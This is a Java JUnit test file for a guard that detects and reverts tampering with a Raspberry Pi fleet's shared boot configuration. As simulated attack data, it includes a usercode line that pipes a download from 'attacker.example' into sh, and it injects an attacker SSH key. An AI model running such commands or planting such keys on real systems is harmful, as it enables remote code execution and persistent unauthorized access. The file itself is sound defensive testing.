package io.cattlepi.ci.simulator.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.cattlepi.ci.cattlepi.DeviceConfig;
import io.cattlepi.ci.cattlepi.HttpCattlePiApi;
import io.cattlepi.ci.cattlepi.WorkerConfigSetup;
import io.cattlepi.ci.cattlepi.WorkersConfigGuard;
import io.cattlepi.ci.secret.Secret;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The workers' shared config under attack, against the simulator's CattlePi API over HTTP: what a
 * recipe with the workers' key (it is on every Pi) could write is found and put back.
 */
class WorkersConfigGuardTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String KEY = "workers-key";
    private static final String CONTROLLER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9vcs controller";
    private CattlePiApiServer server;
    private HttpCattlePiApi api;
    private final List<String> drifts = new ArrayList<>();
    private final String[] approved = new String[1];
    private WorkersConfigGuard guard;

    @BeforeEach
    void start() throws Exception {
        server = CattlePiApiServer.start();
        server.addKey(KEY, true);
        server.putConfig(KEY, "default", (ObjectNode) JSON.readTree("""
                {"bootcode": "", "usercode": "", "initfs": {"url": "u1", "md5sum": "m1"},
                 "rootfs": {"url": "u2", "md5sum": "m2"}, "config": {"autoupdate": false, "mystery": 1}}"""));
        api = new HttpCattlePiApi(URI.create(server.url()), new Secret(KEY), Duration.ofSeconds(5));
        guard = new WorkersConfigGuard(new WorkerConfigSetup(api, "default", server.url() + "/raspbian.zip",
                CONTROLLER_KEY, null), new WorkersConfigGuard.Approved() {
                    @Override
                    public Optional<String> load() {
                        return Optional.ofNullable(approved[0]);
                    }

                    @Override
                    public void save(String fields) {
                        approved[0] = fields;
                    }
                }, drifts::add);
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void aTamperedUsercodeAndAnAddedKeyArePutBackAndReported() throws Exception {
        assertEquals(Optional.empty(), guard.check(), "the first look approves what the controller set up");
        DeviceConfig set = api.config("default");
        assertEquals(List.of(CONTROLLER_KEY), set.authorizedKeys());

        // What a recipe could do from its Pi with the workers' key.
        DeviceConfig evil = set.copy();
        evil.usercode("curl -s http://attacker.example/x | sh\n");
        evil.authorizedKeys(List.of(CONTROLLER_KEY, "ssh-ed25519 AAAAattacker attacker"));
        api.putConfig("default", evil);

        Optional<String> drift = guard.check();
        assertEquals(Optional.of("config.ssh, usercode"), drift);
        assertEquals(List.of("config.ssh, usercode"), drifts);
        DeviceConfig after = api.config("default");
        assertEquals("", after.usercode());
        assertEquals(List.of(CONTROLLER_KEY), after.authorizedKeys());
        assertEquals(1, after.bootFields().path("config.standalone").size(), "the rest of the config is as it was");
        assertEquals(Optional.empty(), guard.check(), "reported once, then clean");
    }

    @Test
    void changedImagesAndBootcodeAreDriftTooButOtherFieldsAreNot() throws Exception {
        guard.check();
        DeviceConfig c = api.config("default");
        c.bootcode("echo pwned\n");
        api.putConfig("default", c);
        assertEquals(Optional.of("bootcode"), guard.check());

        ObjectNode tree = (ObjectNode) JSON.readTree(api.config("default").toBytes());
        ((ObjectNode) tree.get("config")).put("mystery", 2);
        api.putConfig("default", DeviceConfig.parse(JSON.writeValueAsBytes(tree)));
        assertEquals(Optional.empty(), guard.check(), "fields that decide nothing at boot are the operator's");
    }

    @Test
    void anOperatorApprovesAChangeMadeOnPurpose() throws Exception {
        guard.check();
        DeviceConfig c = api.config("default");
        c.usercode("echo the operator's own boot script\n");
        api.putConfig("default", c);
        guard.approveCurrent();
        assertEquals(Optional.empty(), guard.check());
        assertEquals("echo the operator's own boot script\n", api.config("default").usercode());
        assertTrue(drifts.isEmpty());
    }
}
